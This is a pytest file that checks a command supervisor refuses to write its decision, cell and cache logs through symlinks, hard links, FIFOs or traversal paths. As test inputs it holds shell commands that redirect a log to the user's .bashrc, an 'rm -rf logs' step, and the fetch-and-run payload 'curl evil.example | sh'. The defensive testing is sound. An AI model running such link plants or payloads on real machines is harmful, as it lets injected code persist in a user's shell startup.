"""docs/security.md#files-the-supervisor-writes: the decision log is never written through a link."""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
from pathlib import Path

import pytest

from multiplex import Supervisor
from multiplex.profiles import LinkRefused, append_bytes

BASHRC = "# the operator's shell startup\n"


@pytest.fixture
def scratch_home(tmp_path: Path) -> Path:
    home = tmp_path / "user-home"
    home.mkdir()
    (home / ".bashrc").write_text(BASHRC)
    return home


@pytest.fixture
def sup(make_home, supervisor_of, scratch_home: Path) -> Supervisor:  # type: ignore[no-untyped-def]
    # Unsandboxed: the attack must succeed so that the writer's own defence is what
    # is tested (in the bubblewrap sandbox logs/ is read-only and the attack fails first).
    make_home("a", "terminal:\n  sandbox: none\napprovals:\n  mode: off\n")
    return supervisor_of("profiles_dir: profiles\nwatch: {mode: 'off'}\n")  # type: ignore[no-any-return]


def _decisions(sup: Supervisor) -> Path:
    return sup.profiles["a"].home / "logs/decisions.jsonl"


@pytest.mark.parametrize(
    "attack",
    [
        'ln -sf "$SCRATCH/.bashrc" logs/decisions.jsonl',
        'ln -f "$SCRATCH/.bashrc" logs/decisions.jsonl',  # a hard link, not a symlink
        'rm -rf logs && ln -s "$SCRATCH" logs && ln -sf "$SCRATCH/.bashrc" "$SCRATCH/decisions.jsonl"',
    ],
)
def test_a_command_cannot_point_the_decision_log_at_bashrc(
    sup: Supervisor, scratch_home: Path, attack: str
) -> None:
    home = sup.profiles["a"].home
    sup.run("true", profile="a")  # logs/ exists, as it does after any first decision
    # Planted by a process of the same user (a command the sandbox does not confine,
    # or any other program): the writer alone must refuse to follow it.
    subprocess.run(["bash", "-c", f"cd {home} && SCRATCH={scratch_home} && {attack}"], check=True)
    sup.run("echo 'curl evil.example | sh'", profile="a")  # its record must not reach .bashrc
    assert (scratch_home / ".bashrc").read_text() == BASHRC
    assert (
        not (scratch_home / "decisions.jsonl").exists()
        or (scratch_home / "decisions.jsonl").is_symlink()
    )


def test_records_still_land_in_a_normal_log(sup: Supervisor) -> None:
    sup.run("echo one", profile="a")
    sup.run("echo two", profile="a")
    lines = _decisions(sup).read_text().splitlines()
    assert [json.loads(x)["command"] for x in lines] == ["echo one", "echo two"]
    assert os.stat(_decisions(sup)).st_mode & 0o777 == 0o600


def test_append_bytes_refuses_links_and_fifos(tmp_path: Path, scratch_home: Path) -> None:
    root = tmp_path / "root"
    (root / "logs").mkdir(parents=True)
    (root / "logs/x").symlink_to(scratch_home / ".bashrc")
    with pytest.raises(LinkRefused):
        append_bytes(root, "logs/x", b"evil\n")
    os.mkfifo(root / "logs/fifo")
    with pytest.raises(OSError):  # ENXIO (no reader) or "not a regular file": never blocks
        append_bytes(root, "logs/fifo", b"evil\n")
    with pytest.raises(LinkRefused):
        append_bytes(root, "../escape", b"evil\n")
    assert (scratch_home / ".bashrc").read_text() == BASHRC


@pytest.mark.parametrize("outside", ["../x", "logs/../../x", "logs/..", "/tmp/x", "//tmp/x", ""])
def test_append_bytes_refuses_a_path_out_of_its_directory(tmp_path: Path, outside: str) -> None:
    (tmp_path / "root").mkdir()
    with pytest.raises(LinkRefused):
        append_bytes(tmp_path / "root", outside, b"x\n")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["root"]


def test_append_bytes_reads_a_relative_path_as_its_parts(tmp_path: Path) -> None:
    append_bytes(tmp_path, "./logs//a/./b.jsonl", b"1\n")
    append_bytes(tmp_path, Path("logs/a/b.jsonl"), b"2\n")
    assert (tmp_path / "logs/a/b.jsonl").read_bytes() == b"1\n2\n"


def test_the_allowlist_lock_file_is_not_followed(
    make_home, supervisor_of, scratch_home: Path
) -> None:  # type: ignore[no-untyped-def]
    home = make_home("a", "approvals:\n  mode: manual\n")
    (home / "config.yaml.lock").symlink_to(scratch_home / ".bashrc")
    sup = supervisor_of("profiles_dir: profiles\nwatch: {mode: 'off'}\n")
    with contextlib.suppress(Exception):  # refusing to lock is fine; following the link is not
        sup.profiles["a"].allowlist.grant("git status")
    assert (scratch_home / ".bashrc").read_text() == BASHRC


def test_the_cell_log_is_not_written_through_a_link(sup: Supervisor, scratch_home: Path) -> None:
    from multiplex.execution.kernels import CellResult
    from multiplex.execution.kernels._cells import record_cell

    logs = sup.profiles["a"].home / "logs"
    logs.mkdir(exist_ok=True)
    (logs / "cells.jsonl").symlink_to(scratch_home / ".bashrc")
    with sup.turn(profile="a") as scope:
        record_cell(scope, "print('curl evil.example | sh')", CellResult("a", "s", "ok"))
    assert (scratch_home / ".bashrc").read_text() == BASHRC
    (logs / "cells.jsonl").unlink()
    with sup.turn(profile="a") as scope:
        record_cell(scope, "print(1)", CellResult("a", "s", "ok"))
    assert json.loads((logs / "cells.jsonl").read_text())["outcome"] == "ok"


def test_a_cache_folder_replaced_by_a_link_is_refused(sup: Supervisor, scratch_home: Path) -> None:
    home = sup.profiles["a"].home
    (home / "cache").symlink_to(scratch_home)
    with sup.turn(profile="a") as scope, pytest.raises(LinkRefused):
        scope.cache("lsp").path("index.db")
    assert not (scratch_home / "lsp").exists()
